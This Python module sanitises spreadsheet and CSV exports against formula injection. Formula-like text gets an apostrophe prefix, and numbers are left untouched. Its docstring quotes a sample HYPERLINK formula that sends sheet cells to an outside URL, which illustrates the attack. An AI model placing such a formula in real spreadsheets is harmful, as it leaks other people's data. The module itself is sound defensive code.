"""Cells a spreadsheet must show as text, never run as a formula (spreadsheet or CSV injection).

A company name such as ``=HYPERLINK("http://…"&B2, "详情")`` is data from an
applicant, not a formula for the bureau's spreadsheet to evaluate: evaluated, it
sends other cells of the sheet to whoever wrote it. Spreadsheets start a formula at
a cell whose first character is ``=``, ``+``, ``-`` or ``@``, and some skip a
leading tab, carriage return, line feed or space first; ASVS 1.2.10 adds NUL.

- In .xlsx such a cell is written as a text cell with Excel's "quote prefix" (the
  flag an apostrophe typed before a value sets): stored unchanged, shown as typed,
  never evaluated, not even after the cell is edited (:mod:`srdi.batch.workbook`).
- In CSV, as OWASP's CSV-injection guidance recommends, the cell gets a leading
  apostrophe (``'=HYPERLINK(…)``) and every text field is quoted, embedded quotes
  doubled (:func:`csv_frame`, :func:`to_csv`).

Numbers are never touched: a real number, or text that is only a number (``-20``,
``+3.5``, ``-1.2e3``), is no formula and keeps its sign.
"""

from __future__ import annotations

import csv
import re
from typing import Any, TextIO

import pandas as pd

#: Characters that make a spreadsheet read the rest of a cell as a formula.
TRIGGERS = frozenset("=+-@")
#: Characters a spreadsheet may skip before a trigger, or that are unsafe as a first character themselves.
LEADING = "\t\r\n\x00 \u3000"
_NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?%?$")


def is_formula_like(value: Any) -> bool:
    """Whether ``value`` is text a spreadsheet could run as a formula (numbers and plain numeric text are not)."""
    if not isinstance(value, str) or not value:
        return False
    if value[0] in "\t\r\x00":
        return True
    first = value.lstrip(LEADING)[:1]
    return first in TRIGGERS and not _NUMBER.match(value.strip(LEADING))


def csv_cell(value: Any) -> Any:
    """``value`` for a CSV cell: formula-like text gets a leading apostrophe, anything else is unchanged."""
    return "'" + value if is_formula_like(value) else value


def csv_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells are safe in CSV; headers too. Numeric columns are not touched."""
    out = frame.copy()
    for name in out.columns:
        col = out[name]
        if col.dtype == object or isinstance(col.dtype, (pd.StringDtype, pd.CategoricalDtype)):
            values = col.astype(object)
            risky = values.map(is_formula_like).to_numpy(dtype=bool)
            if risky.any():
                out[name] = values.where(~risky, "'" + values.astype(str))
    out.columns = [csv_cell(c) for c in out.columns]
    return out


def to_csv(frame: pd.DataFrame, target: str | TextIO, encoding: str = "utf-8-sig") -> None:
    """Write ``frame`` as CSV safe to open in a spreadsheet: formula-like text neutralised, text fields quoted."""
    csv_frame(frame).to_csv(
        target,
        index=False,
        encoding=encoding if isinstance(target, str) else None,
        quoting=csv.QUOTE_NONNUMERIC,
    )
